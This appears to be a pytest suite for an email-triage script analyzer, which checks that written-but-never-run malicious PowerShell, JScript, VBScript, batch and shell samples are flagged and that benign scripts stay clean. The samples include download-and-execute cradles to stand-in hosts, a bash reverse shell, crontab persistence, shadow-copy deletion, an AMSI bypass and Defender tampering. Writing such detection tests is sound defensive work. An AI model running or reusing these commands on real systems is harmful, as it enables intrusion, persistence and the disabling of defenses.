"""script analyzer: PowerShell, JScript, VBScript, batch, shell and one-liner
samples written by the test (never run), benign scripts staying clean, and
obfuscation heuristics."""

from __future__ import annotations

import base64
import random
import time

import pytest

from mailvm.config import TriageConfig
from mailvm.triage import Triage, script
from mailvm.verdict import score_findings
from triage_helpers import art, ids


@pytest.fixture(scope="module")
def triage(tmp_path_factory) -> Triage:
    return Triage(TriageConfig(yara_rules_dir=str(tmp_path_factory.mktemp("noyara") / "absent")))


def run(triage, tmp_path, name: str, text: str | bytes):
    p = tmp_path / name
    p.write_bytes(text.encode() if isinstance(text, str) else text)
    return triage.analyze(art(p))


ENC = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://e.test/a')".encode("utf-16-le")).decode()

MALICIOUS = [
    ("update.ps1", f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc {ENC}\n",
     {"script_powershell_encoded", "script_execution_policy_bypass", "script_hidden_window"}),
    ("cradle.ps1", "$c = New-Object Net.WebClient\n$s = $c.DownloadString('http://e.test/p.ps1')\nIEX $s\n",
     {"script_download", "script_dynamic_exec", "script_download_exec"}),
    ("inv.js", "var s = new ActiveXObject('WScript.Shell');\nvar x = new ActiveXObject('MSXML2.XMLHTTP');\n"
               "x.open('GET','http://e.test/a.exe',false); x.send();\ns.Run('cmd /c a.exe', 0);\n",
     {"script_wscript_shell", "script_download", "script_download_exec", "script_activex", "script_hidden_window"}),
    ("eval.js", "var p = 'YWxlcnQoMSk=';\neval(atob(p));\n", {"script_exec_encoded", "script_base64_decode"}),
    ("drop.vbs", 'Set o = CreateObject("WScript.Shell")\no.Run "mshta https://e.test/x.hta", 0\n',
     {"script_wscript_shell", "script_lolbin"}),
    ("get.bat", "@echo off\r\ncertutil -urlcache -split -f http://e.test/p.b64 p.b64\r\ncertutil -decode p.b64 p.exe\r\nstart p.exe\r\n",
     {"script_certutil"}),
    ("install.sh", "#!/bin/sh\ncurl -fsSL http://e.test/x.sh | sh\n", {"script_shell_pipe_exec"}),
    ("rs.sh", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", {"script_reverse_shell"}),
    ("bot.sh", "#!/bin/sh\ncd /tmp; wget http://e.test/bot -O bot; chmod +x bot && ./bot\n"
               "(crontab -l; echo '* * * * * /tmp/bot') | crontab -\n",
     {"script_chmod_exec", "script_persistence", "script_download"}),
    ("p.sh", "#!/bin/sh\npython3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('e.test',1))\"\n",
     {"script_oneliner"}),
    ("ransom.bat", "vssadmin delete shadows /all /quiet\r\nbcdedit /set {default} recoveryenabled no\r\n",
     {"script_shadow_delete"}),
    ("amsi.ps1", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n",
     {"script_amsi_bypass"}),
    ("def.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true\nAdd-MpPreference -ExclusionPath C:\\\n",
     {"script_defender_tamper"}),
    ("sc.ps1", "$m = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p, $t)\n",
     {"script_shellcode_loader"}),
]


@pytest.mark.parametrize("name,text,expected", MALICIOUS, ids=[m[0] for m in MALICIOUS])
def test_malicious_scripts(triage, tmp_path, name, text, expected):
    r = run(triage, tmp_path, name, text)
    assert r.kind == "script" and r.detonate
    assert expected <= set(ids(r)), r.findings
    assert r.verdict in ("suspicious", "malicious")


BENIGN = [
    ("build.sh", "#!/bin/sh\nset -e\nmkdir -p build\ncd build\ncmake ..\nmake -j4\necho done\n"),
    ("report.py", "#!/usr/bin/env python3\nimport csv, sys\n\nfor row in csv.reader(open(sys.argv[1])):\n    print(row[0])\n"),
    ("backup.ps1", "$src = 'C:\\Data'\n$dst = 'D:\\Backup'\nCopy-Item -Recurse $src $dst\nWrite-Host 'ok'\n"),
    ("menu.js", "function toggle(id) {\n  var e = document.getElementById(id);\n  e.style.display = e.style.display ? '' : 'none';\n}\n"),
    ("hello.vbs", 'MsgBox "Hello from the IT team"\n'),
    ("cleanup.bat", "@echo off\r\ndel /q %TEMP%\\*.tmp\r\necho cleaned\r\n"),
]


@pytest.mark.parametrize("name,text", BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_scripts_have_no_script_findings(triage, tmp_path, name, text):
    r = run(triage, tmp_path, name, text)
    assert r.kind == "script"
    assert not [f for f in r.findings if f.source == "triage:script"], r.findings


def test_charcode_obfuscation():
    js = "var s = String.fromCharCode(" + ",".join(str(ord(c)) for c in "new ActiveXObject('WScript.Shell').Run('calc')") + ");"
    assert "script_charcode_obfuscation" in {f.id for f in script.text_findings(js)}
    vbs = "x = " + " & ".join(f"Chr({ord(c)})" for c in "powershell -nop -w hidden -c calc.exe and more text") + "\n"
    assert "script_charcode_obfuscation" in {f.id for f in script.text_findings(vbs)}
    assert "script_charcode_obfuscation" not in {f.id for f in script.text_findings("x = Chr(65) & Chr(66)\n")}


def test_concatenation_density():
    dense = "var a = " + " + ".join(f"'{c}'" for c in "ActiveXObject WScript.Shell Run cmd calc" * 3) + ";"
    assert "script_concat_obfuscation" in {f.id for f in script.text_findings(dense)}
    sparse = ("var msg = 'Hello ' + name + '!';\n" + "// comment line that pads the file\n" * 200)
    assert "script_concat_obfuscation" not in {f.id for f in script.text_findings(sparse)}


def test_long_base64_blob_but_not_inline_images():
    blob = base64.b64encode(bytes(random.Random(1).getrandbits(8) for _ in range(3000))).decode()
    assert "script_long_base64" in {f.id for f in script.text_findings(f"var p = '{blob}';")}
    img = f'<img src="data:image/png;base64,{blob}">'
    assert "script_long_base64" not in {f.id for f in script.text_findings(img)}


def test_utf16_powershell(triage, tmp_path):
    text = f"powershell -enc {ENC}\r\n"
    r = run(triage, tmp_path, "x.ps1", b"\xff\xfe" + text.encode("utf-16-le"))
    assert "script_powershell_encoded" in ids(r)


def test_command_findings_for_a_command_line():
    found = {f.id for f in script.command_findings("C:\\Windows\\System32\\cmd.exe /c certutil -decode a.b64 a.exe", "x")}
    assert "script_certutil" in found


def test_regexes_stay_linear_on_hostile_text():
    hostile = ("powershell " + " " * 50000 + "-e" + "A" * 19 + "\n") * 20 + "curl " + "x" * 200000 + "\n" + "chmod +x " * 20000
    t0 = time.monotonic()
    script.text_findings(hostile)
    assert time.monotonic() - t0 < 10  # normally well under a second


# -- false positives on ordinary programs (issue 10 item 3) -----------------------------------


@pytest.mark.parametrize("text", [
    "import base64\ndef decode(s):\n    return base64.b64decode(s)\n",           # a codec module
    "def run_once(self):\n    self.loop.run_once', 0)\n",                         # .run_once(..., 0) is no .Run
    "code = compile(src, 'x', 'exec')\nexec(code, ns)\n",                         # a debugger's eval
    "ssh-copy-id adds the key to ~/.ssh/authorized_keys\n",                        # an admin tool
    "wget https://ftp.gnu.org/gnu/gettext/gettext-0.21.tar.gz\n",                  # an installer downloads
])
def test_single_ordinary_capability_is_not_suspicious(text):
    found = script.text_findings(text)
    verdict, _score = score_findings(found)
    assert verdict == "clean", found


def test_python_standard_library_modules_are_clean(tmp_path):
    import glob
    import sysconfig

    stdlib = sysconfig.get_paths()["stdlib"]
    flagged = []
    for path in sorted(glob.glob(f"{stdlib}/*.py")):
        with open(path, encoding="utf-8", errors="replace") as fh:
            found = script.text_findings(fh.read())
        if score_findings(found)[0] != "clean":
            flagged.append((path, sorted({f.id for f in found if f.severity >= 4})))
    assert flagged == []


def test_weak_capabilities_together_are_suspicious_and_a_dropper_is_malicious():
    dropper = ('var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://a.example/p.exe", false); x.send();\n'
               'var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Write(x.responseBody); s.SaveToFile(p, 2);\n'
               'new ActiveXObject("WScript.Shell").Run(p, 0);\n')
    assert score_findings(script.text_findings(dropper))[0] == "malicious"
    half = ('var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", u); x.send();\n'
            'var s = new ActiveXObject("ADODB.Stream"); s.SaveToFile(p, 2);\n')
    ids = {f.id for f in script.text_findings(half)}
    assert "script_download_save" in ids and score_findings(script.text_findings(half))[0] == "suspicious"
